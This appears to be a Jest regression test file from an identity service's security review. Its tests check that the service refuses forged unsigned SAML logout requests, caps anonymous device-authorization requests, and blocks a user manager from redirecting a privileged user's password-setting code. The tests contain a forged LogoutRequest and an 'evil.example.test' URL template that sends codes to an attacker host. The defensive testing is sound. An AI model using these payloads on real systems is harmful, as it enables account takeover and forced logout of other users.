// An attacker's review of the surfaces that landed on 2 December 2026 (docs/security.md, "Attack review of
// 2 December 2026"): each test here is a finding that failed before its fix, or a probe that holds and that no other
// test covers.
// - SAML SLO: an unsigned LogoutRequest naming an SP without a signing certificate ended the sessions of any NameID
//   (an e-mail address) for anyone who sent it: Profiles §4.4.4.1 requires the signature; now refused, session lives.
// - Device authorization: a public client's endpoint is anonymous and stored a row per call without bound (PAR has
//   MAX_LIVE_PUSHES): now at most 5,000 live per client, beyond that 429 slow_down with Retry-After.
// - Invitations (and password resets) sent inside the caller's URL template: an ORG_USER_MANAGER could send an
//   invited IAM_OWNER (or its ORG_OWNER) a genuine svc mail whose link takes the code to the manager's server, then
//   set the password: the account taken over. Now the template needs "who may change an account", as returning the
//   code does (Errors.User.MorePrivileged); svc's own page, and the templates of a login client, stay allowed.
import { deflateRawSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { addMember, createHuman, defaultOrgId, type Machine, machine, project } from "../support/fixtures.js";
import { issuerOf, loginClient, type OidcApp, oidcApp, postForm, type SessionRef, signIn } from "../support/oidc.js";
import { admin, call, fails, ok } from "../support/rpc.js";
import { createResponse, nodeSamlSp, REDIRECT, samlApp, samlRequestOf, spMetadata, ssoRedirect } from "../support/saml.js";
import { startTestServer, type TestServer } from "../support/server.js";
import { linkFrom, type SmtpSink, startSmtpSink } from "../support/smtp.js";

let t: TestServer;
let smtp: SmtpSink;
let orgId: string;
let projectId: string;
let login: Machine;
let alice: string;

beforeAll(async () => {
  smtp = await startSmtpSink();
  t = await startTestServer({ SVC_SMTP_URL: smtp.url, SVC_SMTP_FROM: "svc <no-reply@example.test>" });
  orgId = await defaultOrgId(t);
  login = await loginClient(t, orgId, "attack-review-login");
  projectId = await project(t, orgId, "Attack Review");
  await createHuman(t, orgId, "ar-alice");
  const domain = (await admin(t, "GetOrganizationByID", { organizationId: orgId })).organization.primaryDomain;
  alice = `ar-alice@${domain}`;
}, 120_000);
afterAll(async () => {
  await t?.stop();
  await smtp?.close();
});

const alive = async (s: SessionRef) => (await call(t, "rest", login.pat, "GetSession", { sessionId: s.sessionId, sessionToken: s.sessionToken })).code === "ok";

describe("SAML Single Logout: an unsigned LogoutRequest", () => {
  const entityId = "https://nocert-slo.example.com/sp";
  const acs = "https://nocert-slo.example.com/acs";

  beforeAll(async () => {
    // An SP that signs nothing (no signing certificate in its metadata) but has an SLO endpoint.
    const metadata = spMetadata({ entityId, acs: [{ url: acs, isDefault: true }], slo: [{ url: "https://nocert-slo.example.com/slo", binding: REDIRECT }] });
    await samlApp(t, projectId, "No-cert SLO SP", metadata);
  });

  it("naming an SP without a signing certificate and a user's NameID: 400, the user's session lives", async () => {
    // The victim signs in at the SP: the session is its participant with NameID = the e-mail address.
    const session = await signIn(t, login, alice);
    const sp = await nodeSamlSp(t, entityId, acs);
    await createResponse(t, login, samlRequestOf(await ssoRedirect(t, await sp.getAuthorizeUrlAsync("", undefined, {}))), session);
    // The attacker knows (or guesses) the address and sends the browser-less request itself.
    const xml = `<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_forged-${Date.now()}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${issuerOf(t)}/saml/v2/SLO"><saml:Issuer>${entityId}</saml:Issuer><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">ar-alice@example.com</saml:NameID></samlp:LogoutRequest>`;
    const q = new URLSearchParams({ SAMLRequest: deflateRawSync(Buffer.from(xml)).toString("base64") });
    const redirect = await fetch(`${t.url}/saml/v2/SLO?${q}`, { redirect: "manual" });
    expect(redirect.status).toBe(400);
    expect(await redirect.text()).toContain("must be signed");
    const post = await fetch(`${t.url}/saml/v2/SLO`, {
      method: "POST",
      redirect: "manual",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams({ SAMLRequest: Buffer.from(xml.replace("_forged-", "_forged-post-")).toString("base64") }),
    });
    expect(post.status).toBe(400);
    expect(await alive(session)).toBe(true);
  }, 60_000);
});

describe("Device authorization: bounded storage of an anonymous endpoint", () => {
  let tv: OidcApp;
  let other: OidcApp;
  const device = {
    appType: "OIDC_APP_TYPE_NATIVE",
    authMethodType: "OIDC_AUTH_METHOD_TYPE_NONE",
    redirectUris: [],
    grantTypes: ["OIDC_GRANT_TYPE_DEVICE_CODE"],
  };

  beforeAll(async () => {
    tv = await oidcApp(t, projectId, "Capped TV", device);
    other = await oidcApp(t, projectId, "Other TV", device);
  });

  it("a public client with 5,000 live device authorizations gets 429 slow_down; another client is not affected", async () => {
    const ask = (clientId: string) => postForm(t, "/oauth/v2/device_authorization", { client_id: clientId, scope: "openid" });
    expect((await ask(tv.clientId)).status).toBe(200);
    // What 5,000 anonymous calls leave behind (inserted directly: the test is about the bound, not the speed).
    const app = await t.server.db.prisma.deviceAuthorization.findFirstOrThrow({ where: { clientId: tv.clientId }, select: { appId: true } });
    const expires = new Date(Date.now() + 300_000);
    await t.server.db.prisma.$executeRaw`
      INSERT INTO "DeviceAuthorization" ("id", "instanceId", "appId", "clientId", "deviceCodeHash", "userCodeHash", "scopes", "pollInterval", "expiresAt", "createdAt")
      SELECT 'ar-da-' || n, ${t.server.instanceId}, ${app.appId}, ${tv.clientId}, convert_to('ar-dc-' || n, 'UTF8'), convert_to('ar-uc-' || n, 'UTF8'),
        '{}'::text[], 5, ${expires}, ${expires}
      FROM generate_series(1, 4999) AS n`;
    const refused = await ask(tv.clientId);
    expect(refused.status).toBe(429);
    expect(refused.headers.get("retry-after")).toBe("60");
    expect(refused.body.error).toBe("slow_down");
    expect((await ask(other.clientId)).status).toBe(200);
    // Once they expire, the client is served again.
    t.advanceClock(601_000);
    expect((await ask(tv.clientId)).status).toBe(200);
  }, 60_000);
});

describe("Codes that set a password, sent inside the caller's URL template", () => {
  const evil = "https://evil.example.test/welcome?u={{.UserID}}&c={{.Code}}";
  let manager: Machine;

  beforeAll(async () => {
    manager = await machine(t, orgId, "ar-user-manager", ["ORG_USER_MANAGER"]);
  });

  /** A human of the organization without a password (an invitation's subject). */
  async function invitee(username: string): Promise<string> {
    const { id } = await admin(t, "CreateUser", {
      organizationId: orgId,
      username,
      human: { profile: { givenName: "In", familyName: "Vitee" }, email: { email: `${username}@example.com` } },
    });
    return id;
  }

  it("an ORG_USER_MANAGER cannot have an invited IAM_OWNER's code sent to its own URL; svc's page and a plain user's stay allowed", async () => {
    const admin2 = await invitee("ar-invited-admin");
    await admin(t, "AddInstanceMember", { userId: admin2, roles: ["IAM_OWNER"] });
    await fails(
      t,
      "rest",
      manager.pat,
      "CreateInviteCode",
      { userId: admin2, sendCode: { urlTemplate: evil } },
      "permission_denied",
      "Errors.User.MorePrivileged",
    );
    await fails(
      t,
      "connect",
      manager.pat,
      "CreateInviteCode",
      { userId: admin2, sendCode: { urlTemplate: evil } },
      "permission_denied",
      "Errors.User.MorePrivileged",
    );
    // To svc's own invitation page, as before.
    await ok(t, "rest", manager.pat, "CreateInviteCode", { userId: admin2, sendCode: {} });
    expect(new URL(linkFrom(await smtp.next("ar-invited-admin@example.com"))).pathname).toBe("/ui/login/invite");
    // A user without roles: the manager's template is fine.
    const plain = await invitee("ar-invited-plain");
    await ok(t, "rest", manager.pat, "CreateInviteCode", { userId: plain, sendCode: { urlTemplate: evil } });
    expect(new URL(linkFrom(await smtp.next("ar-invited-plain@example.com"))).host).toBe("evil.example.test");
  }, 60_000);

  it("nor its ORG_OWNER's password reset code; a login client's template (its login UI) stays allowed", async () => {
    const owner = await createHuman(t, orgId, "ar-owner");
    await addMember(t, orgId, owner, ["ORG_OWNER"]);
    await fails(t, "rest", manager.pat, "PasswordReset", { userId: owner, sendLink: { urlTemplate: evil } }, "permission_denied", "Errors.User.MorePrivileged");
    await ok(t, "rest", manager.pat, "PasswordReset", { userId: owner, sendLink: {} });
    await smtp.next("ar-owner@example.com");
    await ok(t, "rest", login.pat, "PasswordReset", { userId: owner, sendLink: { urlTemplate: "https://login.example.test/reset?c={{.Code}}" } });
    expect(new URL(linkFrom(await smtp.next("ar-owner@example.com"))).host).toBe("login.example.test");
  }, 60_000);
});
